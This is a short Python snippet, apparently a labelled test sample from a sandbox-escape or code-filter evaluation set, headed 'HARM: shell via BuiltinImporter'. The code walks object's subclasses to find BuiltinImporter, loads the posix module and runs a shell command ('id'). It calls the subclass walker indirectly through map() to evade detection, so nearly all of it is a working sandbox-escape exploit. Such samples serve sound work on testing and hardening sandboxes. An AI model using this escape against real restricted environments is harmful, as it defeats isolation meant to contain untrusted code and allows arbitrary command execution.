# HARM: shell via BuiltinImporter | TRICK: walker invoked indirectly via map() over [object]
class Base: pass
class A(Base): pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for g in map(walk, [object]):
    for k in g:
        if k.__name__ == 'BuiltinImporter':
            k.load_module('posix').system('id')
